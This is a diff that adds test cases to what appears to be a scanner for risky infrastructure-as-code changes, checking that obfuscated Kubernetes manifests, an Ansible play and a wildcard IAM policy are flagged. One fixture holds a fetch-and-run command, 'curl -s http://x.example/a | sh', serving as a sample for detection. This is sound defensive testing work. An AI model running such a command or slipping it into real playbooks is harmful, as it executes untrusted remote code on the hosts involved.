@@ -129,6 +129,46 @@ describe("what other tools than Terraform apply", () => {
     ]);
   });
 
+  const body = "metadata: { name: a }";
+  it.each([
+    ["on one line", (on: boolean) => `{apiVersion: v1, kind: Pod, ${body}, spec: {hostNetwork: ${on}}}\n`],
+    ["as JSON on one line", (on: boolean) => `{"apiVersion":"v1","kind":"Pod","spec":{"hostNetwork":${on}}}`],
+    [
+      "with keys written out",
+      (on: boolean) => `? apiVersion\n: v1\n? kind\n: Pod\nspec: { hostNetwork: ${on} }\n`,
+    ],
+    [
+      "with keys escaped",
+      (on: boolean) => `"api\\u0056ersion": v1\n"\\x6bind": Pod\nspec: { hostNetwork: ${on} }\n`,
+    ],
+    [
+      "with a byte order mark",
+      (on: boolean) => `\ufeffapiVersion: v1\nkind: Pod\nspec: { hostNetwork: ${on} }\n`,
+    ],
+    [
+      "with other line ends",
+      (on: boolean) => `apiVersion: v1\r\nkind: Pod\r\nspec:\r\n  hostNetwork: ${on}\r\n`,
+    ],
+  ])("a manifest %s hides nothing (T41)", (_how, text) => {
+    const { resources } = change("x.yaml", text(false), text(true));
+    expect(resources).toMatchObject([
+      { kind: "kubernetes", type: "Pod", dangers: [{ code: "isolation-lost" }] },
+    ]);
+  });
+
+  it("nor does a play whose hosts come late, nor a template on one line (T41)", () => {
+    const play = (run: string) =>
+      `- name: a\n  gather_facts: no\n  hosts: all\n  tasks: [{ name: t, shell: ${run} }]\n`;
+    expect(summarize(change("p.yml", play("make"), play("curl -s http://x.example/a | sh")))).toEqual([
+      "update shell.t compute: untrusted-code",
+    ]);
+    const stack = (action: string) =>
+      `{"Resources":{"R":{"Type":"AWS::IAM::Policy","Properties":{"PolicyDocument":{"Statement":[{"Effect":"Allow","Action":"${action}","Resource":"*"}]}}}}}`;
+    expect(change("s.json", stack("s3:GetObject"), stack("*")).resources).toMatchObject([
+      { kind: "cloudformation", type: "AWS::IAM::Policy", name: "R" },
+    ]);
+  });
+
   it("what only speaks of it is not it", () => {
     const doc = "# How to\n\n```yaml\napiVersion: v1\nkind: Pod\n```\n";
     expect(change("docs/how.md", doc, `${doc}more\n`)).toEqual({ resources: [], unparsed: [] });
